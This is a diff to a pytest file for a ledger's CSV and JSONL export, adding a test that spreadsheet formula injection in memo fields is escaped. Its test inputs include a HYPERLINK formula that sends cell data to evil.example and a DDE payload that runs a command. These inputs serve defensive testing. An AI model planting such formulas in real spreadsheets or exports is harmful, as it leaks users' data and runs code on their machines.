@@ -3,7 +3,11 @@ ledger's signing key) can change in a document and which check still refuses it.
 
 from __future__ import annotations
 
+import csv
 import dataclasses
+import datetime as dt
+import io
+import json
 from typing import Any
 
 import pytest
@@ -12,6 +16,8 @@ from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 from custody.errors import PolicyViolation
 from ledger.attest import control
 from ledger.attest.verify_doc import node_findings
+from ledger.journal.book import StoredEntry
+from ledger.report.export import write_csv, write_jsonl
 from tests.unit.test_attestation_doc import json_hash, synthetic
 from tests.unit.test_bip322 import MESSAGE, _outs, _sign, _vault
 
@@ -65,3 +71,38 @@ def test_one_holders_two_keys_count_once_in_a_proof_of_control() -> None:
     proof = control.finalize(two, vault, MESSAGE)
     assert proof["signers"] == ["ann", "cat"]
     assert control.verify(proof, str(vault.descriptor), MESSAGE, vault.holders) == ()
+
+
+# --- the entry export's CSV opened in a spreadsheet -------------------------------------------------
+
+
+def _stored(seq: int, memo: str, ref: str | None = None) -> StoredEntry:
+    return StoredEntry(
+        seq, "manual", dt.date(2026, 3, 1), memo, ref, None, None, None, None, None, b"\x00" * 32,
+        (("cold", "vault", -5), ("fees", "expense", 5)),
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "memo",
+    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'quoted"],
+)
+def test_a_memo_that_a_spreadsheet_would_run_is_written_as_text(memo: str) -> None:
+    """A memo (or ref) starting with = + - @ (or a tab or carriage return) is a formula to a
+    spreadsheet: the CSV writes it behind an apostrophe (OWASP), and one starting with an
+    apostrophe gets a second one, so dropping one leading apostrophe always gives the memo back.
+    Amounts (negative ones start with -) are numbers and stay as they are; the JSONL is exact."""
+    out = io.StringIO()
+    write_csv([_stored(1, memo, ref=memo)], out)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    header, first = rows[0], rows[1]
+    cells = dict(zip(header, first, strict=True))
+    assert cells["memo"] == "'" + memo and cells["ref"] == "'" + memo
+    assert cells["amount_sat"] == "-5" and cells["amount_btc"].startswith("-")
+    assert json.loads(io_jsonl(memo))["memo"] == memo
+
+
+def io_jsonl(memo: str) -> str:
+    out = io.StringIO()
+    write_jsonl([_stored(1, memo)], out)
+    return out.getvalue()
